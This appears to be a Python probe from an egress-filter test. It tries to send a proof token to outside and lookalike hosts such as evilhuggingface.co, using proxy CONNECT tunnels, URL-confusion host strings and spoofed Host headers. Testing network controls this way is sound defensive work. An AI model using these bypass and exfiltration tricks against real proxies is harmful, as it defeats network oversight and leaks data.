"""Asks for another host: by name, by address, by names that look like the hub's, in plain HTTP."""

import contextlib
import json
import os
import socket

W = json.loads(os.environ["HOSTILE"])
PROXY = os.environ.get("HTTPS_PROXY", "").rpartition(":")[2]


def tunnel(place):
    """By the proxy, if there is one; directly if there is none."""
    if not PROXY:
        host, _, port = place.rpartition(":")
        return socket.create_connection((host, int(port)), 1)
    client = socket.create_connection(("127.0.0.1", int(PROXY)), 3)
    client.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\n".encode())
    client.recv(1000)  # whatever it is: go on
    return client


names = (W["outside"], "evilhuggingface.co", "huggingface.co.example.org")
for place in (*names, "huggingface.co@evilhuggingface.co", "evilhuggingface.co#.huggingface.co"):
    for port in (W["tcp"], 443):
        with contextlib.suppress(OSError), tunnel(f"{place}:{port}") as client:
            client.sendall(W["proof"].encode())
if PROXY:
    for line in (f"GET http://{W['outside']}:{W['tcp']}/{W['proof']}", f"POST https://evilhuggingface.co/{W['proof']}"):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", int(PROXY)), 3) as client:
            client.sendall(f"{line} HTTP/1.1\r\nHost: huggingface.co\r\n\r\n".encode())
            client.recv(1000)
